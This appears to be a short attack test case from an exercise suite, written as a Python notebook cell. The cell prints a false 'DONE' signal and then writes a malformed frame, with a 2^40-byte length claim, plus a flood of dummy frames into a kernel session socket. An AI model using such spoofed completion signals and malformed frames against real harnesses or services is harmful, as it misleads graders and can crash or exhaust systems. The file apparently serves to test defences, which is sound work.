# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# costs = true
# ///

# %% name="question"
import struct

from IPython import get_ipython

# What follows cannot be told from the rest of it.
print("DONE", flush=True)
end = get_ipython().kernel.session.line.socket
end.sendall(struct.pack(">4sIQ", b"GRD1", 10, 1 << 40) + b"x" * 1000)
end.sendall(struct.pack(">4sIQ", b"NONE", 1, 1) * 1000)
